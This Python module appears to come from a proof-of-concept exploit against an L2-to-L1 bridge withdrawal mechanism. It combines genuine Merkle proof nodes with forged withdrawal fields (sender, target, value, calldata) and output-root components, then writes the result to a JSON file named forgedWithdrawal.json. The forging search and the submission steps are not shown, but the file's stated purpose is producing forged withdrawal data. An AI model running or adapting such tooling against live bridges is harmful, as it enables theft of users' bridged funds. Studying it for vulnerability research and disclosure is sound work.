import json
import logging
import os
import tempfile
from typing import Any, Dict

from eth_utils.address import to_checksum_address
from hexbytes import HexBytes

from .types import (
    BlockHeader,
    ForgedArtifact,
    OutputProposal,
    ScanResult,
    SearchResult,
)

logger = logging.getLogger(__name__)

# `Types.OutputRootProof.version`, currently bytes32(0)
OUTPUT_VERSION_V0 = (0).to_bytes(32, byteorder="big")

ARTIFACT_FILENAME = "forgedWithdrawal.json"


def assemble_artifact(
    scan: ScanResult,
    search: SearchResult,
    output: OutputProposal,
    block: BlockHeader,
    version: bytes = OUTPUT_VERSION_V0,
) -> ForgedArtifact:
    """
    Combine the real proof nodes with the forged withdrawal fields and the
    `OutputRootProof` components of the proven L2 block.

    The proof nodes are kept byte for byte; nothing is re-validated here.
    """
    forged = search.candidate

    return ForgedArtifact(
        proof=scan.candidate.path.raw_nodes,
        nonce=forged.nonce,
        sender=forged.sender,
        target=forged.target,
        value=forged.value,
        gasLimit=forged.gasLimit,
        data=bytes(forged.data),
        l2OutputIndex=output.index,
        version=bytes(version),
        stateRoot=block.state_root,
        storageHash=scan.candidate.storage_proof.storage_hash,
        latestBlockhash=block.hash,
    )


def _hex(value: bytes) -> str:
    return HexBytes(value).to_0x_hex()


def artifact_to_json(artifact: ForgedArtifact) -> Dict[str, Any]:
    return {
        "proof": [_hex(node) for node in artifact.proof],
        "nonce": str(artifact.nonce),
        "sender": to_checksum_address(artifact.sender),
        "target": to_checksum_address(artifact.target),
        "value": str(artifact.value),
        "gasLimit": str(artifact.gasLimit),
        "data": _hex(artifact.data),
        "l2OutputIndex": artifact.l2OutputIndex,
        "version": _hex(artifact.version),
        "stateRoot": _hex(artifact.stateRoot),
        "storageHash": _hex(artifact.storageHash),
        "latestBlockhash": _hex(artifact.latestBlockhash),
    }


def artifact_path(output_dir: str, network_prefix: str = "") -> str:
    return os.path.join(output_dir, f"{network_prefix}{ARTIFACT_FILENAME}")


def _current_umask() -> int:
    umask = os.umask(0)
    os.umask(umask)

    return umask


def write_artifact(artifact: ForgedArtifact, path: str) -> str:
    """
    Write the artifact as indented JSON.

    The file is written next to its destination and moved into place, so a
    failed write never leaves a partial artifact behind.
    """
    directory = os.path.dirname(os.path.abspath(path))
    os.makedirs(directory, exist_ok=True)

    fd, tmp_path = tempfile.mkstemp(dir=directory, suffix=".tmp")

    try:
        with os.fdopen(fd, "w") as file:
            json.dump(artifact_to_json(artifact), file, indent=2)
            file.write("\n")

        # mkstemp creates 0600 files, give the artifact the usual umask mode
        os.chmod(tmp_path, 0o666 & ~_current_umask())
        os.replace(tmp_path, path)
    except BaseException:
        os.unlink(tmp_path)
        raise

    logger.info("The forged transaction data has been written to %s", path)

    return path
